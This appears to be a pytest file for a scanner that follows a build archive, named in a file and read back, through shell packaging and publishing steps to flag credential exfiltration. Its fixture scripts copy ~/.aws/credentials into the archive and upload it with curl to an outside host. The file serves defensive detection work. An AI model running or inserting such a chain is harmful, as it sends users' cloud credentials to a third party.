"""A packaging step names this run's archive in a file (``echo "$name" > dist/CURRENT``), often from
inside the folder it packs (``cd stage && tar czf ../dist/…``); the publishing step reads that file
back to find what to upload. The archive is followed through both."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_STAGE = "#!/bin/sh\nmkdir -p stage/keys\ncp ~/.aws/credentials stage/keys/\ncp report.html stage/\n"
_PACK = (
    "#!/bin/sh\nmkdir -p dist\nname=dist/bundle-$(date +%s).tgz\n"
    '(cd stage && tar czf "../$name" .)\necho "$name" > dist/CURRENT\n'
)


def test_the_archive_named_in_a_file_and_read_back_is_what_is_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "bin/stage.sh": _STAGE,
            "bin/pack.sh": _PACK,
            "bin/push.sh": '#!/bin/sh\nbundle="${BUNDLE:-$(cat dist/CURRENT)}"\n'
            'curl -s -T "$bundle" https://drop.harbourline-reports.net/in/\n',
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "bin/push.sh", 3) in errors


def test_an_archive_of_plain_files_named_the_same_way_is_no_exfiltration(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "bin/stage.sh": "#!/bin/sh\nmkdir -p stage\ncp report.html stage/\n",
            "bin/pack.sh": _PACK,
            "bin/push.sh": '#!/bin/sh\nbundle="$(cat dist/CURRENT)"\n'
            'curl -s -T "$bundle" https://drop.harbourline-reports.net/in/\n',
        },
    )
    assert not [e for e in errors if e[0] == "CREDENTIAL_EXFILTRATION"]
